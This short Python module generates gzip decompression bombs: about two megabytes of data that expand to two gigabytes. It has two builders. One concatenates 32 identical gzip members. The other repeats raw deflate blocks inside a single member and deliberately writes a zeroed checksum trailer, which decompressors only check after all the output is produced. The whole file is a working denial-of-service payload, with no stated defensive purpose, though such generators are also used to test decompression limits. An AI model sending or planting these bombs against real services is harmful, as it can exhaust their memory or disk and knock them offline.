"""Two megabytes that gzip makes two gigabytes of, made without compressing two gigabytes."""

from __future__ import annotations

import gzip
import zlib

PART = 1 << 26


def concatenated_members() -> bytes:
    return gzip.compress(bytes(PART), 9) * 32


def one_member() -> bytes:
    """Its check sum at the end is wrong, which nobody sees before all of it is there."""
    deflate = zlib.compressobj(9, wbits=-15)
    part = deflate.compress(bytes(PART)) + deflate.flush(zlib.Z_FULL_FLUSH)
    return gzip.compress(b"")[:10] + part * 32 + deflate.flush() + bytes(8)
